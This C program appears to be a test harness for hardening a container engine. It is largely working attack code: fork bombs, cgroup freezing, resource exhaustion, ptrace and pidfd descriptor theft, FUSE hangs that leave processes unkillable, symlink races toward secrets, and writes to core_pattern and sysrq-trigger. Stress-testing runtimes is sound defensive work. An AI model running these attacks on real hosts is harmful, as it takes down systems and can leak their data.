/* The program of the campaign's containers: attackers and victims. The first argument selects the command.
 *
 * victims
 *   lines MILLISECONDS [FILE]   prints "line 1", "line 2", … at this interval, each after it was appended to FILE and
 *                         synced; on SIGTERM prints "total N" and exits with code 7
 *   probe WORD            prints WORD
 *
 * attackers, none of which exits by itself
 *   freezer               freezes every other cgroup that it can access, new ones immediately (inotify), and its init
 *                         process in a nested cgroup of the v1 freezer
 *   frozen                freezes its own cgroup, v1 and v2
 *   nested COUNT          creates nested cgroups: one deep chain, and flat ones
 *   deep DEPTH DIR…       creates a chain of directories
 *   files COUNT DIR…      creates empty files
 *   descriptors           opens as many descriptors, full pipes and watches as possible in several processes
 *   zombies               creates children and orphans that are not reaped
 *   threads               creates as many runnable threads as possible
 *   forkbomb              forks in every process up to the limit
 *   flood                 writes to stdout and stderr without a pause: lines, data without newlines, single bytes
 *   swap LOGS VOLUME SECRET   replaces its log and its volume by links to SECRET, FIFOs and directories
 *   ptrace                stops every process it can see and copies its descriptors
 *   fuse                  mounts a file system that answers no read, and maps the environment of a process from it
 *   fuse-stuck            the same, but blocked processes have its device open, so that they cannot be killed
 *   signals               calls kill(-1, SIGKILL) forever
 *   namespaces            creates hundreds of namespaces and mounts, sets clocks, enters a new user namespace
 *   etc                   fills hosts, hostname, resolv.conf, termination-log and /dev/shm
 *   memory                allocates memory until it is OOM-killed
 *   connections PORT      keeps idle connections to the streaming server open
 *   leave                 leaves a process without any descriptor running and exits
 *   hold-output           keeps the mutexes of its stdout and stderr pipes locked: one forever, one repeatedly
 *   hold-exec             keeps the mutexes of its own stdout and stderr locked (for exec)
 *   hold-passed           keeps the mutexes of the pipes locked that `pass` sends to it
 *   pass                  prints a line and sends its stdout and stderr to hold-passed (for exec)
 *   spin                  uses all CPUs
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void sleep_us(long microseconds) {
    struct timespec t = {microseconds / 1000000, microseconds % 1000000 * 1000};
    nanosleep(&t, NULL);
}

static int write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = write(fd, text, strlen(text));
    close(fd);
    return n < 0 ? -1 : 0;
}

static void wait_forever(void) { for (;;) pause(); }

/* ── victims ── */

static volatile sig_atomic_t terminated;
static void on_term(int s) { (void)s; terminated = 1; }

static int lines(long period, const char *file) {
    struct sigaction action = {.sa_handler = on_term};
    sigaction(SIGTERM, &action, NULL);
    unsigned long n = 0;
    int copy = file ? open(file, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644) : -1;
    while (!terminated) {
        char text[64];
        int length = snprintf(text, sizeof text, "line %lu\n", ++n);
        if (copy >= 0 && (write(copy, text, length) < 0 || fdatasync(copy))) sleep_us(1000);
        for (int at = 0; at < length;) {
            ssize_t wrote = write(1, text + at, length - at);
            if (wrote > 0) at += wrote;
        }
        sleep_us(period * 1000);
    }
    dprintf(1, "total %lu\n", n);
    return 7;
}

/* ── cgroups ── */

static void unshare_with_userns(int flags) {
    if (unshare(CLONE_NEWUSER | flags)) { perror("unshare"); return; }
    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", "0 0 1");
    write_file("/proc/self/gid_map", "0 0 1");
}

static void mount_cgroups(void) {
    unshare_with_userns(CLONE_NEWNS | CLONE_NEWCGROUP);
    mkdir("/tmp/v2", 0755);
    mkdir("/tmp/v1", 0755);
    if (mount("none", "/tmp/v2", "cgroup2", 0, NULL)) perror("mount cgroup2");
    if (mount("none", "/tmp/v1", "cgroup", 0, "freezer")) perror("mount the v1 freezer");
}

static void freeze_group(const char *group) {
    char path[4096];
    snprintf(path, sizeof path, "%s/cgroup.freeze", group);
    write_file(path, "1");
    snprintf(path, sizeof path, "%s/freezer.state", group);
    write_file(path, "FROZEN");
}

static void freeze_children(int watch, const char *group, int depth) {
    inotify_add_watch(watch, group, IN_CREATE | IN_ONLYDIR);
    DIR *dir = opendir(group);
    if (!dir) return;
    for (struct dirent *entry; (entry = readdir(dir));) {
        if (entry->d_type != DT_DIR || entry->d_name[0] == '.') continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", group, entry->d_name);
        freeze_group(path);
        if (depth < 8) freeze_children(watch, path, depth + 1);
    }
    closedir(dir);
}

/* This must be fast: the cgroup of a command exists for only a millisecond before its process joins it. */
static void freeze_new_groups(const char *tree) {
    int watch = inotify_init1(IN_CLOEXEC);
    static char events[65536];
    if (chdir(tree)) return;
    for (;;) {
        freeze_children(watch, ".", 0);
        for (int round = 0; round < 50; round++) {
            ssize_t length = read(watch, events, sizeof events);
            for (ssize_t at = 0; at < length;) {
                struct inotify_event *event = (void *)(events + at);
                freeze_group(event->name);
                at += sizeof *event + event->len;
            }
        }
    }
}

static void freezer(void) {
    mount_cgroups();
    for (int n = 0; n < 4; n++) if (fork() == 0) freeze_new_groups(n == 0 ? "/tmp/v1" : "/tmp/v2");
    /* Also freeze this process, the init process, in a nested cgroup, which cgroup.kill does not thaw. */
    mkdir("/tmp/v1/own", 0755);
    mkdir("/tmp/v1/own/deep", 0755);
    sleep_us(300000); /* until a command was executed */
    write_file("/tmp/v1/own/deep/cgroup.procs", "0");
    freeze_group("/tmp/v1/own/deep");
    wait_forever();
}

static void frozen(void) {
    mount_cgroups();
    sleep_us(300000); /* until a command is running in the container */
    freeze_group("/tmp/v2");
    freeze_group("/tmp/v1");
    wait_forever();
}

static void nested(long count) {
    mount_cgroups();
    for (int tree = 0; tree < 2; tree++) {
        if (chdir(tree ? "/tmp/v1" : "/tmp/v2")) continue;
        long created = 0;
        char name[64];
        for (; created < count; created++) {
            snprintf(name, sizeof name, "flat%ld", created);
            if (created >= count / 3 && mkdir(name, 0755)) break;
            if (created < count / 3 && (mkdir("deep", 0755) || chdir("deep"))) break;
            if (created + 1 == count / 3 && chdir(tree ? "/tmp/v1" : "/tmp/v2")) break;
        }
        printf("%ld cgroups: %s\n", created, strerror(errno));
    }
    fflush(stdout);
    wait_forever();
}

/* ── directories ── */

static void deep(long depth, char **dirs) {
    for (; *dirs; dirs++) {
        long created = 0;
        if (chdir(*dirs)) continue;
        while (created < depth && !mkdir("d", 0755) && !chdir("d")) created++;
        printf("%s: %ld deep\n", *dirs, created);
        fflush(stdout);
    }
    wait_forever();
}

static void files(long count, char **dirs) {
    for (; *dirs; dirs++) {
        for (long n = 0; n < count; n++) {
            char path[4096];
            snprintf(path, sizeof path, "%s/many%ld", *dirs, n / 1000);
            if (n % 1000 == 0) mkdir(path, 0755);
            snprintf(path, sizeof path, "%s/many%ld/%ld", *dirs, n / 1000, n);
            int fd = open(path, O_WRONLY | O_CREAT, 0644);
            if (fd < 0) break;
            close(fd);
        }
    }
    wait_forever();
}

/* ── resource exhaustion ── */

static void descriptors(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max < 20000 ? limit.rlim_max : 20000;
    setrlimit(RLIMIT_NOFILE, &limit);
    for (int child = 0; child < 8; child++) {
        if (fork()) continue;
        static char block[65536];
        for (int kind = 0;; kind++) {
            int pair[2];
            if (kind % 4 == 0 && !pipe2(pair, O_NONBLOCK)) {
                if (write(pair[1], block, sizeof block) < 0) sleep_us(1000);
            } else if (kind % 4 == 1) epoll_create1(0);
            else if (kind % 4 == 2) inotify_add_watch(inotify_init1(0), "/", IN_ALL_EVENTS);
            else if (dup(0) < 0) sleep_us(100000);
        }
    }
    wait_forever();
}

static void zombies(void) {
    for (;;) {
        pid_t child = fork();
        if (child == 0) {
            if (fork() >= 0) _exit(0); /* the grandchild becomes a child of the init process, which never reaps */
            _exit(0);
        }
        if (child < 0) sleep_us(50000);
    }
}

static void *awake(void *none) {
    for (;;) { sleep_us(1000); sched_yield(); }
    return none;
}

static void threads(void) {
    pthread_attr_t small;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 65536);
    for (;;) {
        pthread_t thread;
        if (pthread_create(&thread, &small, awake, NULL)) sleep_us(100000);
    }
}

static void forkbomb(void) {
    signal(SIGTERM, SIG_IGN);
    setsid();
    for (;;) if (fork() < 0) sleep_us(10000);
}

static void flood(void) {
    static char block[65536];
    for (int kind = 0; kind < 4; kind++) {
        if (fork()) continue;
        int fd = 1 + kind % 2;
        memset(block, 'x', sizeof block);
        if (kind == 0) for (size_t n = 15; n < sizeof block; n += 16) block[n] = '\n';
        size_t length = kind == 2 ? 1 : kind == 3 ? 4000 : sizeof block;
        if (kind == 2) block[0] = '\n';
        for (;;) if (write(fd, block, length) < 0) sleep_us(1000);
    }
    wait_forever();
}

/* ── file names ── */

static void replace(const char *path, int kind, const char *secret) {
    char temporary[4096];
    snprintf(temporary, sizeof temporary, "%s.temporary", path);
    unlink(temporary);
    rmdir(temporary);
    if (kind == 0 && symlink(secret, temporary)) return;
    if (kind == 1 && mkfifo(temporary, 0666)) return;
    if (kind == 2 && mkdir(temporary, 0777)) return;
    if (kind == 3) close(open(temporary, O_CREAT | O_WRONLY, 0666));
    if (kind == 4 && symlink(path, temporary)) return;
    if (syscall(SYS_renameat2, AT_FDCWD, temporary, AT_FDCWD, path, 2u)) rename(temporary, path);
}

static void swap(const char *logs, const char *volume, const char *secret) {
    char log[4096], part[4096], inside[64] = "/tmp/swapped";
    snprintf(log, sizeof log, "%s/swap.log", logs);
    snprintf(part, sizeof part, "%s/part", volume);
    for (unsigned n = 0;; n++) {
        replace(log, n % 5, secret);
        replace(part, (n * 3 + 1) % 5, secret);
        replace(inside, (n * 2) % 5, secret);
        printf("swap %u\n", n);
        fflush(stdout);
        if (n % 64 == 0) sleep_us(1000);
    }
}

/* ── other processes ── */

static void attack_process(int pid) {
    if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        printf("stopped %d\n", pid);
        fflush(stdout);
    }
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int fd = 0; process >= 0 && fd < 64; fd++) {
        int fd_copy = syscall(SYS_pidfd_getfd, process, fd, 0);
        if (fd_copy < 0) continue;
        char path[64], to[256];
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd_copy);
        ssize_t n = readlink(path, to, sizeof to - 1);
        to[n < 0 ? 0 : n] = 0;
        /* No descriptor of the engine may be accessible. */
        if (strstr(to, "pinion") || strstr(to, "pinmon")) printf("took %s\n", to);
        fflush(stdout);
        close(fd_copy);
    }
    if (process >= 0) close(process);
}

static void trace(void) {
    for (;;) {
        DIR *dir = opendir("/proc");
        for (struct dirent *entry; dir && (entry = readdir(dir));) {
            int pid = atoi(entry->d_name);
            if (pid > 1 && pid != getpid()) attack_process(pid);
        }
        if (dir) closedir(dir);
        sleep_us(200);
    }
}

static void signals(void) {
    for (unsigned n = 0;; n++) {
        kill(-1, n % 16 == 15 ? SIGSTOP : SIGKILL);
        while (waitpid(-1, NULL, WNOHANG) > 0) {}
        sleep_us(100);
    }
}

static void leave(void) {
    if (fork() == 0) {
        setsid();
        for (int fd = 0; fd < 64; fd++) close(fd);
        wait_forever();
    }
    _exit(0);
}

/* ── pipes whose mutex is locked ── */

/* Sleeps forever with the mutex of a pipe locked: splice(2) locks the pipe before it waits for data of the socket. In the
 * meantime every read, write, open, tee(2), FIONREAD and last close of this pipe sleeps uninterruptibly. */
static void hold_pipe(int fd) {
    int pair[2];
    while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair)) sleep_us(1000);
    for (;;) if (splice(pair[0], NULL, fd, NULL, 1, 0) <= 0) sleep_us(1000);
}

static int state_of(pid_t pid) {
    char path[64], text[64] = "";
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0) close(fd);
    char *name_end = length > 0 ? strrchr(text, ')') : NULL;
    return name_end ? name_end[2] : 0;
}

/* Forks a process that locks the mutex of a pipe, to write a line or to hold it, and returns when that process sleeps. */
static pid_t fork_locker(int fd, int holds) {
    pid_t child = fork();
    if (child == 0) {
        if (holds) hold_pipe(fd);
        _exit(dprintf(fd, "a line that cannot be read\n") < 0);
    }
    for (int n = 0; n < 100 && child > 0 && state_of(child) == 'R'; n++) sleep_us(1000);
    return child;
}

static void kill_child(pid_t child) {
    if (child <= 0) return;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
}

/* Opens a descriptor for poll(2), which does not lock the mutex. */
static int open_reader(int fd) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    return open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
}

/* Forks a process that keeps the mutex of a pipe with unread data locked, so that a reader has been woken and sleeps. A writer
 * and that process wait for the mutex, in this order, when an earlier holder ends; a reader may still be faster. */
static pid_t fork_holder(int fd, int reader) {
    pid_t holder = fork_locker(fd, 1);
    for (int n = 0; n < 20; n++) {
        pid_t writer = fork_locker(fd, 0), next = fork_locker(fd, 1);
        struct pollfd readable = {reader, POLLIN, 0};
        kill_child(holder);
        holder = next;
        sleep_us(5000);
        kill_child(writer);
        if (poll(&readable, 1, 0) > 0) break;
    }
    return holder;
}

static void hold_repeatedly(int fd) {
    int reader = open_reader(fd);
    for (unsigned n = 0;; n++) {
        pid_t holder = fork_holder(fd, reader);
        sleep_us(300000);
        kill_child(holder);
        if (n % 2) sleep_us(50000);
    }
}

static void hold_output(void) {
    /* An open file description that only the init process has: when that is killed, its close waits for the mutex, and the
     * kernel kills the other processes of the PID namespace only after that. */
    int reader = open_reader(1);
    puts("locked");
    fflush(stdout);
    if (fork() == 0) {
        close(reader);
        hold_repeatedly(2);
    }
    if (fork() == 0) {
        close(reader);
        fork_holder(1, open_reader(1));
        for (int n = 0; n < 8; n++) fork_locker(1, 1);
        wait_forever();
    }
    wait_forever();
}

static void hold_exec(void) {
    if (fork() == 0) {
        setsid();
        fork_holder(2, open_reader(2));
        wait_forever();
    }
    fork_holder(1, open_reader(1));
    wait_forever();
}

static const struct sockaddr_un passing = {.sun_family = AF_UNIX, .sun_path = "\0pass"};
/* The behaviour of a command after it has sent its pipes. */
enum { END, STAY, WRITE, BEHAVIOURS };

union descriptors {
    struct cmsghdr head;
    char bytes[CMSG_SPACE(2 * sizeof(int))];
};

static void pass(void) {
    int passed[2] = {1, 2}, server = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    char behaviour = END;
    struct iovec part = {&behaviour, 1};
    union descriptors control = {.head = {.cmsg_len = CMSG_LEN(sizeof passed), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS}};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    memcpy(CMSG_DATA(&control.head), passed, sizeof passed);
    puts("passed");
    fflush(stdout);
    if (connect(server, (const struct sockaddr *)&passing, sizeof passing) || sendmsg(server, &message, 0) < 0) _exit(1);
    if (read(server, &behaviour, 1) < 1) _exit(1);
    if (behaviour == STAY) wait_forever();
    if (behaviour == WRITE) dprintf(1, "this write waits for the mutex\n");
    _exit(0);
}

static void hold_passed(void) {
    int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    pid_t groups[12] = {0};
    if (bind(listener, (const struct sockaddr *)&passing, sizeof passing) || listen(listener, 64)) perror("listen");
    for (unsigned n = 0;; n++) {
        int command = accept(listener, NULL, NULL), passed[2] = {-1, -1};
        char behaviour;
        struct iovec part = {&behaviour, 1};
        union descriptors control;
        struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
        if (recvmsg(command, &message, 0) == 1 && CMSG_FIRSTHDR(&message) && control.head.cmsg_len == CMSG_LEN(sizeof passed))
            memcpy(passed, CMSG_DATA(&control.head), sizeof passed);
        pid_t *group = &groups[n % (sizeof groups / sizeof *groups)];
        if (*group > 0) {
            kill(-*group, SIGKILL);
            while (waitpid(-*group, NULL, 0) > 0) {}
        }
        *group = passed[1] < 0 ? 0 : fork();
        if (*group == 0 && passed[1] >= 0) {
            setpgid(0, 0);
            for (int i = 0; i < 2; i++) fork_holder(passed[i], open_reader(passed[i]));
            behaviour = n % BEHAVIOURS;
            if (write(command, &behaviour, 1) < 0) sleep_us(1000);
            close(command);
            wait_forever();
        }
        if (*group > 0) setpgid(*group, *group);
        /* This is never the last close of a pipe, which would wait for the mutex: the process group has both open. */
        for (int i = 0; i < 2; i++) close(passed[i]);
        close(command);
    }
}

/* ── a FUSE file system that answers no read ── */

static void reply(int device, struct fuse_in_header *in, const void *body, size_t length, int error) {
    char out[4096];
    struct fuse_out_header head = {.len = sizeof head + length, .error = error, .unique = in->unique};
    memcpy(out, &head, sizeof head);
    if (length) memcpy(out + sizeof head, body, length);
    if (write(device, out, head.len) < 0) sleep_us(1000);
}

static void serve(int device) {
    static char request[1 << 18];
    struct fuse_attr file = {.ino = 2, .size = 1 << 20, .mode = S_IFREG | 0755, .nlink = 1, .blksize = 4096};
    struct fuse_attr root = {.ino = 1, .mode = S_IFDIR | 0755, .nlink = 2, .blksize = 4096};
    for (;;) {
        if (read(device, request, sizeof request) < 0) { sleep_us(1000); continue; }
        struct fuse_in_header *in = (void *)request;
        struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 4096};
        struct fuse_entry_out entry = {.nodeid = 2, .entry_valid = 1, .attr = file};
        struct fuse_attr_out attr = {.attr_valid = 0, .attr = in->nodeid == 1 ? root : file};
        struct fuse_open_out opened = {.fh = 1};
        if (in->opcode == FUSE_INIT) reply(device, in, &init, sizeof init, 0);
        /* One name has attributes; every other lookup, read and statfs waits forever. */
        else if (in->opcode == FUSE_LOOKUP && !strcmp((char *)(in + 1), "file")) reply(device, in, &entry, sizeof entry, 0);
        else if (in->opcode == FUSE_GETATTR) reply(device, in, &attr, sizeof attr, 0);
        else if (in->opcode == FUSE_OPEN) reply(device, in, &opened, sizeof opened, 0);
    }
}

static int map_environment(const char *path) {
    extern char **environ;
    int fd = open(path, O_RDONLY);
    for (char **variable = environ; fd >= 0 && *variable; variable++) {
        if (strncmp(*variable, "PAD=", 4)) continue;
        char *page = (char *)(((unsigned long)*variable + 8191) & ~4095ul);
        if (mmap(page, 4096 * 8, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, 0) == MAP_FAILED) perror("mmap");
    }
    puts("the environment is mapped from the file system");
    fflush(stdout);
    wait_forever();
    return 0;
}

static void mount_fuse(int stuck) {
    int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    char options[128];
    if (device < 0) return perror("/dev/fuse"), wait_forever();
    snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", device);
    mkdir("/fuse", 0755);
    if (mount("hung", "/fuse", "fuse", MS_NOSUID, options)) return perror("mount fuse"), wait_forever();
    if (fork() == 0) serve(device);
    /* A process that waits for a reply while it has the device open cannot be killed: this is the attack fuse-stuck. */
    if (!stuck) close(device);
    if (fork() == 0) {
        static char pad[65536] = "PAD=";
        memset(pad + 4, 'x', sizeof pad - 5);
        char *argv[] = {"attacker", "environment", NULL}, *envp[] = {pad, NULL};
        execve("/bin/attacker", argv, envp);
    }
    for (int n = 0; n < 8; n++)
        if (fork() == 0) {
            struct stat status;
            if (n % 2) stat("/fuse/other", &status);
            else { char byte; int fd = open("/fuse/file", O_RDONLY); if (read(fd, &byte, 1) < 0) wait_forever(); }
            wait_forever();
        }
    wait_forever();
}

static void fuse(void) { mount_fuse(0); }
static void fuse_stuck(void) { mount_fuse(1); }

/* ── namespaces, clocks, files of the pod, memory ── */

static void clocks(void) {
    struct timespec moment = {1, 0};
    struct timex adjust = {.modes = ADJ_OFFSET, .offset = 500000};
    clock_settime(CLOCK_REALTIME, &moment);
    adjtimex(&adjust);
    write_file("/proc/sys/kernel/hostname", "owned");
    write_file("/proc/sys/kernel/core_pattern", "|/bin/attacker");
    write_file("/proc/sysrq-trigger", "h");
}

static void namespaces(void) {
    unshare_with_userns(CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWIPC);
    for (;;) {
        clocks();
        pid_t child = fork();
        if (child == 0) {
            unshare(CLONE_NEWUSER | CLONE_NEWNET | CLONE_NEWNS | CLONE_NEWIPC | CLONE_NEWUTS | CLONE_NEWCGROUP | CLONE_NEWPID);
            unshare(CLONE_NEWTIME);
            write_file("/proc/self/timens_offsets", "monotonic 100000 0\nboottime 100000 0");
            for (int n = 0; n < 200; n++) mount("none", "/tmp", "tmpfs", 0, "size=4k");
            sleep_us(2000000);
            _exit(0);
        }
        if (child < 0) sleep_us(100000);
        sleep_us(20000);
        while (waitpid(-1, NULL, WNOHANG) > 0) {}
    }
}

static void etc(void) {
    static char block[65536];
    const char *names[] = {"/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/dev/termination-log", "/dev/shm/full", NULL};
    memset(block, 'x', sizeof block);
    for (;;) {
        for (const char **name = names; *name; name++) {
            int fd = open(*name, O_WRONLY | O_CREAT | O_APPEND, 0644);
            for (int n = 0; fd >= 0 && n < 1024 && write(fd, block, sizeof block) > 0; n++) {}
            if (fd >= 0) close(fd);
        }
        sleep_us(500000);
        for (const char **name = names; *name; name++) if (truncate(*name, 0)) sleep_us(1);
    }
}

static void memory(void) {
    for (;;) {
        pid_t child = fork();
        if (child == 0) {
            for (;;) {
                char *block = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
                if (block != MAP_FAILED) memset(block, 1, 1 << 20);
            }
        }
        waitpid(child, NULL, 0);
        sleep_us(50000);
    }
}

static void connections(int port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    for (;;) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to)) { if (fd >= 0) close(fd); sleep_us(10000); continue; }
        if (write(fd, "GET /exec/x HTTP/1.1\r\n", fd % 2 ? 22 : 1) < 0) close(fd);
    }
}

static void spin(void) {
    for (int n = 0; n < 8; n++) if (fork() == 0) for (;;) __asm__ volatile("");
    wait_forever();
}

int main(int n, char **a) {
    const char *c = n > 1 ? a[1] : "";
    struct { const char *name; void (*run)(void); } plain[] = {
        {"freezer", freezer}, {"frozen", frozen}, {"descriptors", descriptors}, {"zombies", zombies}, {"threads", threads},
        {"forkbomb", forkbomb}, {"flood", flood}, {"ptrace", trace}, {"signals", signals}, {"leave", leave}, {"fuse", fuse},
        {"fuse-stuck", fuse_stuck},
        {"namespaces", namespaces}, {"etc", etc}, {"memory", memory}, {"spin", spin}, {"rest", wait_forever},
        {"hold-output", hold_output}, {"hold-exec", hold_exec}, {"hold-passed", hold_passed}, {"pass", pass},
    };
    for (size_t i = 0; i < sizeof plain / sizeof *plain; i++) if (!strcmp(c, plain[i].name)) return plain[i].run(), 0;
    if (!strcmp(c, "lines") && n > 2) return lines(atol(a[2]), a[3]);
    if (!strcmp(c, "probe") && n > 2) return puts(a[2]), 0;
    if (!strcmp(c, "environment")) return map_environment("/fuse/file");
    if (!strcmp(c, "nested") && n > 2) return nested(atol(a[2])), 0;
    if (!strcmp(c, "deep") && n > 3) return deep(atol(a[2]), a + 3), 0;
    if (!strcmp(c, "files") && n > 3) return files(atol(a[2]), a + 3), 0;
    if (!strcmp(c, "swap") && n > 4) return swap(a[2], a[3], a[4]), 0;
    if (!strcmp(c, "connections") && n > 2) return connections(atoi(a[2])), 0;
    fprintf(stderr, "attacker: unknown command %s\n", c);
    return 2;
}
